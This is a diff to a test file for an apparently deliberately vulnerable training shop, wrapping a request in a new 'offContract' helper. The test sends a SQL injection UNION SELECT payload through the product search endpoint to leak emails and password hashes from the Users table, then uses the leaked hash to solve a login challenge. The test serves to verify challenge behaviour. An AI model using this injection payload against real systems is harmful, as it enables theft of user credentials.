@@ -7,6 +7,7 @@ import { startTestShop, type TestShop } from '../helpers';
 import { registerCustomer, uniqueEmail } from '../account-helpers';
 import { expectNotSolved, exploit, isFixedIn, solvedKeys } from '../challenges';
 import { allReviews, ftpListing, ftpText, login } from './account-clues';
+import { offContract } from '../contract-answers';
 
 /**
  * Batch 3, accounts and OSINT: logins with passwords the shop gives away, and the external
@@ -81,7 +82,9 @@ describe('Login Kemal (loginJimChallenge)', () => {
     // and the login with the cracked password, which no fix of the search changes.
     const payload = "x')) UNION SELECT id,email,password,4,5,6,7,8,9 FROM Users--";
     await exploit(shop, 'loginJimChallenge', async () => {
-      const rows = (await shop.app.inject({ method: 'GET', url: `/rest/products/search?q=${encodeURIComponent(payload)}` })).json().data as { name: string; description: string }[];
+      // The UNION's rows come from the users' table: the answer is the flaw's, not the contract's products.
+      const leaked = await offContract('the search injection answers rows of another table', () => shop.app.inject({ method: 'GET', url: `/rest/products/search?q=${encodeURIComponent(payload)}` }));
+      const rows = leaked.json().data as { name: string; description: string }[];
       const hash = isFixedIn(shop, 'unionSqlInjectionChallenge')
         ? shop.ctx.db.prepare<[string], { password: string }>('SELECT password FROM Users WHERE email = ?').get('kemal@pulp.shop')?.password
         : rows.find((row) => row.name === 'kemal@pulp.shop')?.description;
